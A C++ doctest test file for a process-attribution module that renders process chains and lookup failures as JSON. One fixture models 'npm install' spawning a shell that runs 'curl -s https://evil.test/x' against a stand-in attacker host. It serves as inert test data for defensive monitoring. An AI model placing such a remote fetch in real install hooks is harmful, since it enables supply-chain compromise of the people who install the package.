#include "attribution/result.hpp"

#include <doctest/doctest.h>

namespace at = airlock::attribution;

TEST_CASE("render_process_json: the shape in docs/decision-log.md") {
  at::lookup_result r;
  r.chain = {{4242, "curl", "curl -s https://evil.test/x"},
             {4240, "sh", "sh -c curl -s https://evil.test/x"},
             {4201, "node", "node /usr/bin/npm install"}};
  CHECK(at::render_process_json(r) == R"({"pid":4242,"comm":"curl","cmdline":"curl -s https://evil.test/x",)"
                                      R"("chain":[{"pid":4242,"comm":"curl","cmdline":"curl -s https://evil.test/x"},)"
                                      R"({"pid":4240,"comm":"sh","cmdline":"sh -c curl -s https://evil.test/x"},)"
                                      R"({"pid":4201,"comm":"node","cmdline":"node /usr/bin/npm install"}]})");
}

TEST_CASE("render_process_json: a lookup that failed says why") {
  CHECK(at::render_process_json(at::unknown_result(at::cause::socket_not_found)) ==
        R"({"unknown":"socket not found"})");
  CHECK(at::render_process_json(at::unknown_result(at::cause::queue_full)) == R"({"unknown":"queue full"})");
  // An empty result is not silently an empty chain.
  CHECK(at::render_process_json(at::lookup_result{}) == R"({"unknown":"lookup failed"})");
}

TEST_CASE("render_process_json: strings are JSON-escaped") {
  at::lookup_result r;
  r.chain = {{7, "a\"b", "x \\\\x1b \"q\""}};
  CHECK(
      at::render_process_json(r) ==
      R"({"pid":7,"comm":"a\"b","cmdline":"x \\\\x1b \"q\"","chain":[{"pid":7,"comm":"a\"b","cmdline":"x \\\\x1b \"q\""}]})");
}
